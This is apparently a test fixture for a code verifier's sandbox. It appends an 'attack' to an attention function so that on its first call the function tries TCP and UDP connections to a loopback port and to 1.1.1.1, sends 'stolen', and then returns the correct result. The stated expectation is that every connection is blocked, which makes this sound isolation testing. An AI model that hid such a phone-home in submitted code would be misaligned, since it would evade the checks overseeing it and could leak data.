# --- appended attack: phone home over TCP and UDP, then behave --------------
# A sneaky solution: correct, but on first use it tries to reach a server the
# verifier runs on 127.0.0.1 and a public address. Expected: no connection.
import socket as _socket

_honest_sdpa = scaled_dot_product_attention
_tried = []


def _phone_home():
    for label, address in (("loopback", ("127.0.0.1", int("@@PORT@@"))), ("public", ("1.1.1.1", 53))):
        try:
            with _socket.create_connection(address, timeout=2) as connection:
                connection.sendall(b"stolen")
            print(f"ATTEMPT network {label}: CONNECTED")
        except OSError as error:
            print(f"ATTEMPT network {label}: blocked ({error})")
    try:
        with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as udp:
            udp.sendto(b"stolen", ("127.0.0.1", int("@@PORT@@")))
        print("ATTEMPT network udp: sent")
    except OSError as error:
        print(f"ATTEMPT network udp: blocked ({error})")


def scaled_dot_product_attention(*args, **kwargs):
    if not _tried:
        _tried.append(1)
        _phone_home()
    return _honest_sdpa(*args, **kwargs)
